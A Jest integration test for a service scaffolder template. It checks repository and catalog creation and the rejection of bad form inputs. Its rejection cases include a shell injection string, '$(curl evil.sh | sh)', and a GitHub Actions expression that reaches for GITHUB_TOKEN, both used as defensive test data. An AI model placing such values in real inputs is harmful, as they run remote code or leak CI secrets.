import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  BackendProcess,
  eventually,
  startBackendProcess,
} from './__testUtils__/backendProcess';
import {
  backendApi,
  guestToken,
  runTemplateTask,
  waitForEntities,
} from './__testUtils__/scaffolderClient';
import { SERVICE_ORDERS_VALUES } from './__testUtils__/templateValues';

/*
 * Runs the real flask-react-service template through the real scaffolder backend (embedded
 * defaults: SQLite, guest, no GitHub integration): a real task that creates
 * <data>/git/services/orders.git and the catalog entity, and bad inputs that must fail with a
 * clear error and publish nothing.
 */

jest.setTimeout(300_000);

const values = SERVICE_ORDERS_VALUES;

describe('flask-react-service template on the scaffolder backend (local git target)', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'portal-service-template-'));
  const servicesDir = join(dataDir, 'git', 'services');
  const repo = join(servicesDir, 'orders.git');
  const git = (...args: string[]) =>
    execFileSync('git', ['--git-dir', repo, ...args], {
      encoding: 'utf8',
    }).trim();
  let backend: BackendProcess;
  let token: string;

  const api = backendApi(
    () => backend.baseUrl,
    () => token,
  );
  const runTask = (taskValues: Record<string, unknown>) =>
    runTemplateTask(api, 'template:default/flask-react-service', taskValues);

  beforeAll(async () => {
    backend = await startBackendProcess({
      configFiles: ['app-config.yaml'],
      env: { PORTAL_DATA_DIR: dataDir },
    });
    token = await guestToken(backend.baseUrl);
    await waitForEntities(api, [
      'template/default/flask-react-service',
      'resource/default/dev',
      'resource/default/shared-account',
    ]);
  });

  afterAll(async () => {
    await backend?.stop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('creates orders for dev as a local repository whose entity appears in the catalog', async () => {
    const { task, log, output } = await runTask(values);
    expect({
      status: task.status,
      log: task.status === 'completed' ? '' : log,
    }).toEqual({ status: 'completed', log: '' });
    expect(git('rev-list', '--count', 'main')).toBe('1');
    const files = git('ls-tree', '-r', '--name-only', 'main').split('\n');
    expect(files).toEqual(
      expect.arrayContaining([
        'backend/tests/test_items.py',
        'chart/values-dev.yaml',
        'deploy/argocd/dev.yaml',
        '.github/workflows/delivery.yaml',
      ]),
    );
    expect(git('ls-tree', 'main', '.github/scripts/set-image-tag.sh')).toMatch(
      /^100755 /,
    );
    expect(output.links).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          title: 'Repository',
          url: `file://${repo}`,
        }),
        expect.objectContaining({ entityRef: 'component:default/orders' }),
      ]),
    );

    const component = await eventually(
      () =>
        api('/api/catalog/entities/by-name/component/default/orders').catch(
          () => undefined,
        ),
      e => !!e,
      60_000,
    );
    expect(component.spec).toMatchObject({
      type: 'service',
      owner: 'group:default/team-orders',
    });
    expect(component.metadata.annotations['github.com/project-slug']).toBe(
      'acme/orders',
    );
    const apiEntity = await eventually(
      () =>
        api('/api/catalog/entities/by-name/api/default/orders-api').catch(
          () => undefined,
        ),
      e => !!e,
      60_000,
    );
    expect(apiEntity.spec.definition).toMatch(/^openapi: 3\.0\.3/);
  });

  it('refuses to create orders a second time', async () => {
    const before = git('rev-parse', 'main');
    const { task, log } = await runTask(values);
    expect(task.status).toBe('failed');
    expect(log).toMatch(/repository acme\/orders already exists/);
    expect(git('rev-parse', 'main')).toBe(before);
  });

  it.each([
    // The scaffolder's own form schema check answers 400 before any step runs.
    [
      'a bad name',
      { name: 'Orders_1' },
      /400 .*instance.name does not match pattern/,
    ],
    [
      'an unknown environment',
      { environments: ['resource:default/nowhere'] },
      /environments: 'resource:default\/nowhere' is not an environment resource in the catalog/,
    ],
    [
      'a repository outside the organisation',
      { repoUrl: 'github.com?owner=evil-corp&repo=billing' },
      /repoUrl: repositories must be created in the organisation 'acme', not 'evil-corp'/,
    ],
    [
      'metacharacters in the description',
      { description: 'billing $(curl evil.sh | sh)' },
      /description: must not contain template or shell metacharacters/,
    ],
    [
      'a template expression in the description',
      { description: 'billing ${{ secrets.GITHUB_TOKEN }}' },
      /description: must not contain .*GitHub Actions expression/,
    ],
  ])(
    'refuses %s with a clear error, publishing nothing',
    async (_, bad, message) => {
      const result = await runTask({
        ...values,
        name: 'billing',
        repoUrl: 'github.com?owner=acme&repo=billing',
        ...bad,
      }).catch((error: Error) => ({
        task: { status: 'rejected' },
        log: error.message,
      }));
      expect(['failed', 'rejected']).toContain(result.task.status);
      expect(result.log).toMatch(message);
      expect(readdirSync(servicesDir)).toEqual(['orders.git']);
    },
  );
});
